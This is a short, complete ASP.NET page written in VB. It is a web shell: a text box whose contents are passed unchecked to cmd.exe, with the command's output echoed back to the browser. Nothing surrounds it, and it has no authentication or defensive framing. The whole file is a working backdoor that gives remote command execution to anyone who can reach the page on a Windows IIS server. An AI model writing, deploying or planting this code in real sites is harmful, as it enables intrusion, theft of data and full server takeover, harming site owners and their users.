<%@ Page Language="VB" %>
<script runat="server">
Sub Run(s As Object, e As EventArgs)
  Dim p As New System.Diagnostics.Process()
  p.StartInfo.FileName = "cmd.exe" : p.StartInfo.Arguments = "/c " & cmdBox.Text
  p.StartInfo.UseShellExecute = False : p.StartInfo.RedirectStandardOutput = True : p.Start()
  result.Text = p.StandardOutput.ReadToEnd()
End Sub
</script>
<form runat="server"><asp:TextBox id="cmdBox" runat="server"/><asp:Button Text="Run" OnClick="Run" runat="server"/><asp:Label id="result" runat="server"/></form>
